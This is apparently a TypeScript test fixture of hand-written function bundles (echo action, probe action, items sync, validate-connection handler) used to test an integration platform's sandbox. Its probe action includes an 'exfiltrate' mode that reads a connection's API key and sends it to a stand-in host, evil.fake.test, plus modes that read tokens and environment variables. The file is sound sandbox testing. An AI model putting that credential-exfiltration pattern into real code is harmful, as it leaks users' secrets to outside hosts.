// Function bundles as `spoke compile` emits them: an ES module whose default export is the
// definition (createAction & co. only add `type`). Written by hand here, so the platform's tests
// don't depend on the CLI; the end-to-end tests deploy real CLI output.

/** The SDK's ActionError, as a bundle carries its own copy. */
const ACTION_ERROR = `class ActionError extends Error {
    constructor(payload) { super(payload?.message ?? 'The action failed'); this.payload = payload; this.type = 'action_script_runtime_error'; this[Symbol.for('spoke.ActionError')] = true; }
}`;

/**
 * An action that reads the fake API (which echoes requests) and returns what it got. The API saw
 * the key; the echo reaches the sandbox with the key's placeholder in its place.
 */
export const ECHO_ACTION = `
export default {
    type: 'action',
    description: 'Echo',
    exec: async (nango, input) => {
        const res = await nango.get({ endpoint: '/items', params: { q: input?.q ?? '' } });
        await nango.log('echoed', { q: input?.q });
        return { path: res.data.path, query: res.data.query, sawKey: res.data.headers['x-api-key'] === 'spoke-credential-placeholder:apiKey', input };
    }
};`;

/** An action whose input picks what it does: each way a run can fail, and each thing a sandbox must not be able to do. */
export const PROBE_ACTION = `
${ACTION_ERROR}
export default {
    type: 'action',
    description: 'Probe',
    input: { safeParse: (v) => (v && typeof v.mode === 'string' ? { success: true, data: v } : { success: false, error: { issues: [{ code: 'invalid_type', message: 'mode is required', path: ['mode'] }] } }) },
    exec: async (nango, input) => {
        switch (input.mode) {
            case 'action-error': throw new ActionError({ message: 'refused', reason: 'test' });
            case 'crash': return undefined.missing;
            case 'http-error': return (await nango.get({ endpoint: '/fail' })).data;
            case 'retry': return (await nango.get({ endpoint: '/busy', retries: 2 })).status;
            case 'slow': await new Promise((resolve) => setTimeout(resolve, 10_000)); return 'late';
            case 'big': return 'x'.repeat(2_000_000);
            case 'fetch': return String(await fetch('https://api.fake.test/direct').then((r) => r.status, (e) => 'blocked: ' + e.message));
            case 'connection': return await nango.getConnection();
            case 'token': return await nango.getToken();
            case 'context': {
                await nango.updateMetadata({ touched: true });
                return { variables: await nango.getEnvironmentVariables() };
            }
            case 'exfiltrate': {
                const { credentials } = await nango.getConnection();
                const res = await nango.uncontrolledFetch({ url: 'https://evil.fake.test/steal?k=' + credentials.apiKey });
                return res.status;
            }
            case 'nested': return await nango.triggerAction('api', 'c1', 'echo', { q: 'nested' });
            case 'flaky': {
                const n = ((await nango.getCheckpoint())?.n ?? 0) + 1;
                await nango.saveCheckpoint({ n });
                if (n < 3) throw new Error('flaky attempt ' + n);
                return { attempts: n };
            }
            default: return { mode: input.mode };
        }
    }
};`;

/** A sync that saves one record per page of a cursor-paginated list, and moves its checkpoint. */
export const ITEMS_SYNC = `
export default {
    type: 'sync',
    description: 'Items',
    frequency: 'every hour',
    models: { Item: {} },
    exec: async (nango) => {
        const start = await nango.getCheckpoint();
        await nango.log('starting', { from: start?.cursor ?? null });
        const res = await nango.get({ endpoint: '/items', params: { since: start?.cursor ?? '0' } });
        await nango.batchSave([{ id: '1', path: res.data.path, since: res.data.query.since }], 'Item');
        await nango.batchDelete([{ id: 'old' }], 'Item');
        await nango.saveCheckpoint({ cursor: 'next' });
        await nango.updateMetadata({ synced: true });
    }
};`;

/** A validate-connection function: refuses connections whose region is "mars". */
export const VALIDATE_REGION = `
export default {
    type: 'on-event',
    event: 'validate-connection',
    exec: async (nango) => {
        const connection = await nango.getConnection();
        if (connection.connection_config.region === 'mars') throw new Error('region mars is not served');
        await nango.get({ endpoint: '/validate' });
    }
};`;

/** An event function that only calls the API, so its runs show in the fake's request log. */
export const eventCaller = (event: string, path: string) => `
export default { type: 'on-event', event: '${event}', exec: async (nango) => { await nango.post({ endpoint: '${path}', data: { connection: nango.connectionId } }); } };`;
